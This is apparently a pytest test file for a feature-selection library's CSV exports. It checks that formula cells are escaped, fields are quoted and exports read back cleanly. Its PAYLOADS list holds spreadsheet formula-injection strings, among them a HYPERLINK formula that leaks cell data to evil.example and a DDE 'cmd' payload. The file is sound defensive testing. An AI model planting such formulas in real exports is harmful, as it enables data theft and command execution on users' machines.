"""Safe exports (issue 26, item 1): formula cells defused, fields quoted, no provenance lines in a CSV, every
export read back by pandas and by fslab's own reader, short file names."""

import io
import json

import numpy as np
import pandas as pd
import pytest

from fslab import Dataset, select
from fslab.data.csv_io import read_table
from fslab.export import csv_with_provenance, escape_cell, file_stem, fslab_version, provenance, safe_csv

# the payloads: a comma in a name that would start a cell, a bare CR before a formula, a leading tab
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "\r=1+2", "\t=1+2", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", " =1", "\n=1", 'a,=HYPERLINK("http://evil.example")']
NASTY_NAME = 'x,=HYPERLINK("http://evil.example")'


def _formula_free(text: str) -> None:
    """No field of the CSV text, as a spreadsheet splits it (every CR/LF outside quotes ends a row), begins with a
    formula character."""
    import csv
    for row in csv.reader(io.StringIO(text.replace("\r\n", "\n"), newline="")):
        for field in row:
            assert field[:1] not in ("=", "+", "-", "@", "\t", "\r") or _number(field), (field, text)
    # and the raw text has no bare CR outside a quoted field
    inside = False
    for ch in text:
        if ch == '"':
            inside = not inside
        assert inside or ch != "\r", text


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def test_formula_like_text_is_escaped_and_numbers_are_not():
    frame = pd.DataFrame({"=name": ["=SUM(A1)", "+1", "-x", "@me", "plain"], "value": [-1.5, 2, 3, 4, 5]})
    back = pd.read_csv(io.BytesIO(safe_csv(frame)))
    assert list(back.columns) == ["'=name", "value"]
    assert back["'=name"].tolist() == ["'=SUM(A1)", "'+1", "'-x", "'@me", "plain"]
    assert back["value"].tolist() == [-1.5, 2, 3, 4, 5]
    assert escape_cell(-3) == -3 and escape_cell(True) is True
    assert escape_cell("-1.5") == "'-1.5" and escape_cell(-1.5) == -1.5  # text is escaped, numbers are not


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_defused_in_cells_and_headers(payload):
    frame = pd.DataFrame({payload: [payload, "ok"], "n": [1, 2]})
    text = safe_csv(frame).decode()
    _formula_free(text)
    back = pd.read_csv(io.StringIO(text))
    assert back.shape == (2, 2)                            # nothing split into extra cells or rows
    if payload[:1] in "=+-@\t\r\n" or payload.lstrip()[:1] in "=+-@":
        assert back.iloc[0, 0] == "'" + payload and back.columns[0] == "'" + payload
    else:
        assert back.iloc[0, 0] == payload


def test_bare_cr_is_quoted_and_stays_in_its_cell():
    text = safe_csv(pd.DataFrame({"c": ["\r=1+2"]})).decode()
    assert text == '"c"\n"\'\r=1+2"\n'


def test_provenance_is_a_json_record_never_csv_lines():
    record = provenance(NASTY_NAME, "sha256:" + "0" * 64, "diagnosis", "M", "quantile, 4 bins", "f-beta",
                        {"beta": 2.0}, selector="bayes-greedy", k=5)
    assert record["fslab_version"] == fslab_version() != ""
    assert record["measure_params"] == {"beta": 2.0} and record["k"] == 5
    assert json.loads(json.dumps(record)) == record
    text = csv_with_provenance(pd.DataFrame({"name": ["=x", "b"], "v": [1, 2]}), record).decode()
    assert "#" not in text and "HYPERLINK" not in text      # no provenance line at all
    back = pd.read_csv(io.StringIO(text))                  # no comment="#" needed
    assert back["name"].tolist() == ["'=x", "b"]


def test_file_stem_is_short_and_has_no_display_name():
    assert file_stem("my data.csv", "bayes-greedy", "F-beta (beta=2.0)", "k5") == \
        "fslab_my-data_bayes-greedy_F-beta-beta=2.0_k5"
    stem = file_stem("wdbc.csv (diagnosis = malignant)", "bayes-greedy", "Balanced error", "k5")
    assert stem == "fslab_wdbc_bayes-greedy_Balanced-error_k5"
    assert file_stem("mushroom (sample)", "jmi") == "fslab_mushroom_jmi"
    long = file_stem("an extraordinarily long upload name made of many words.csv")
    assert len(long) <= len("fslab_") + 32 and not long.endswith("-")
    assert f" {long.split('-')[-1]} " in " an extraordinarily long upload name made of many words "  # whole words


def _hostile_dataset():
    """An upload whose names and cells are the payloads."""
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({NASTY_NAME: rng.choice(PAYLOADS[:4], 60), "\t=tab": rng.integers(0, 3, 60),
                          "@at": rng.choice(["-x", "+y", "z"], 60), "plain": rng.integers(0, 2, 60),
                          "=target": rng.choice(["=yes", "no"], 60)})
    return Dataset.from_frame(frame, "=target")


def test_every_selection_export_reads_back_with_pandas_and_fslab():
    from ui.selection import exports, selected_data
    ds = _hostile_dataset()
    enc = ds.discretize()
    result = select(enc, 2, "bayes-greedy", "zero-one")
    prov = provenance(NASTY_NAME, None, "=target", "=yes", "mean-std", "zero-one", {}, selector="bayes-greedy", k=2)
    for name, build in exports(result, prov).items():
        data = build()
        if name.endswith(".csv"):
            _formula_free(data.decode())
            assert pd.read_csv(io.BytesIO(data)).shape[0] >= 1
            assert read_table(data).shape[0] >= 1
        else:
            assert json.loads(data)
    frame = selected_data(enc, result, ds)
    data = csv_with_provenance(frame, prov)               # "Data, selected columns (CSV)"
    text = data.decode()
    _formula_free(text)
    by_pandas, by_fslab = pd.read_csv(io.BytesIO(data)), read_table(data)
    assert by_pandas.shape == by_fslab.shape == frame.shape
    assert list(by_fslab.columns) == [escape_cell(c) for c in frame.columns]
    # and the Data page's loader takes it: the escaped target is a column it can pick
    back = Dataset.from_frame(by_fslab, escape_cell("=target"))
    assert back.discretize().X.shape[0] == 60


def test_npfs_exports_read_back():
    from fslab import npfs
    from ui.npfs import downloads
    enc = _hostile_dataset().discretize()
    result = npfs(enc, "bayes-greedy", 2, n_bootstraps=5, seed=0)
    for name, (data, mime, _label) in downloads(result).items():
        if mime == "text/csv":
            _formula_free(data.decode())
            assert read_table(data).shape[0] == pd.read_csv(io.BytesIO(data)).shape[0] >= 1, name
